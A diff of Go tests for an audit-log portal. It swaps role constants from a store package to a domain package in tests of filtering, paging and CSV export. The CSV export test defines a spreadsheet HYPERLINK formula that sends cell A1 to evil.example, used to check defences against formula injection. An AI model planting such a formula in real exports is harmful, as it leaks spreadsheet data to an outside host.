@@ -16,6 +16,7 @@ import (
 
 	"github.com/PuerkitoBio/goquery"
 
+	"github.com/kvportal/kvportal/domain"
 	"github.com/kvportal/kvportal/store"
 )
 
@@ -71,9 +72,9 @@ func (c *client) walk(path, rowSel, attr string) (ids []string, pages int) {
 func TestAuditFiltersAndPages(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t)
-	adm, admUser := e.signedIn("adm", store.RoleAdmin)
-	dev := e.user("dev", store.RoleRequester)
-	appr := e.user("appr", store.RoleApprover)
+	adm, admUser := e.signedIn("adm", domain.RoleAdmin)
+	dev := e.user("dev", domain.RoleRequester)
+	appr := e.user("appr", domain.RoleApprover)
 	e.seedEvents(dev, appr, 1000, 3000)
 
 	// Every page of approvals, newest first, no repeats, 50 a page.
@@ -165,10 +166,10 @@ func TestAuditFiltersAndPages(t *testing.T) {
 func TestAdminRequestList(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t)
-	adm, _ := e.signedIn("adm", store.RoleAdmin)
-	dev := e.user("dev", store.RoleRequester)
-	ops := e.user("ops", store.RoleRequester)
-	appr := e.user("appr", store.RoleApprover)
+	adm, _ := e.signedIn("adm", domain.RoleAdmin)
+	dev := e.user("dev", domain.RoleRequester)
+	ops := e.user("ops", domain.RoleRequester)
+	appr := e.user("appr", domain.RoleApprover)
 	e.seedEvents(dev, appr, 120, 120)
 	mine := e.request(ops)
 	failed := e.failedRequest(ops, appr)
@@ -213,8 +214,8 @@ func first(ids []string, _ int) []string { return ids }
 func TestAuditExportCSV(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t)
-	adm, _ := e.signedIn("adm", store.RoleAdmin)
-	dev := e.user("dev", store.RoleRequester)
+	adm, _ := e.signedIn("adm", domain.RoleAdmin)
+	dev := e.user("dev", domain.RoleRequester)
 	ctx := context.Background()
 	// Values no form lets through, written straight into the tables.
 	nasty := `=HYPERLINK("http://evil.example/?"&A1,"click, here")`
@@ -326,9 +327,9 @@ func (g *flushGate) Flush() {
 func TestAuditExportStreams(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t)
-	adm, _ := e.signedIn("adm", store.RoleAdmin)
-	dev := e.user("dev", store.RoleRequester)
-	appr := e.user("appr", store.RoleApprover)
+	adm, _ := e.signedIn("adm", domain.RoleAdmin)
+	dev := e.user("dev", domain.RoleRequester)
+	appr := e.user("appr", domain.RoleApprover)
 	const total = 50000
 	e.seedEvents(dev, appr, 5000, total)
 	before := e.countAllEvents()
